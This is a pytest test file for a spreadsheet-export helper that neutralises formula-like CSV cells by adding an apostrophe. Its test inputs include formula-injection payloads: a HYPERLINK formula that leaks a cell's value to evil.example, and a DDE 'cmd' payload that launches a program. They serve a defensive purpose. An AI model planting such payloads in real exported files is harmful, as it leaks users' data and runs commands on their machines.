"""monitor/csv_cells.py: a text cell a spreadsheet would take for a formula gets an apostrophe."""

from __future__ import annotations

import pytest

from monitor.csv_cells import exact_value, inert, inert_exact


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("https://evil.example/?"&B2,"x")', '\'=HYPERLINK("https://evil.example/?"&B2,"x")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("-", "'-"),
        # numbers and ordinary text are left as they are
        ("-3.5", "-3.5"),
        ("+12", "+12"),
        ("-1e-3", "-1e-3"),
        ("110.0", "110.0"),
        ("B-1112", "B-1112"),
        ("a = b", "a = b"),
        ("", ""),
    ],
)
def test_inert(cell: str, written: str) -> None:
    assert inert(cell) == written


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("https://evil.example/?"&B2,"x")', '\'=HYPERLINK("https://evil.example/?"&B2,"x")'),
        ("-n9", "'-n9"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        # an apostrophe of its own gets another, so that reading back drops exactly one
        ("'quoted", "''quoted"),
        ("''", "'''"),
        ("'", "''"),
        ("-3.5", "-3.5"),
        ("n1", "n1"),
        ("", ""),
    ],
)
def test_inert_exact_gives_the_value_back(value: str, written: str) -> None:
    """An evidence bundle's cells: inert, and verify reads each back exactly (it hashes the value)."""
    assert inert_exact(value) == written
    assert exact_value(written) == value
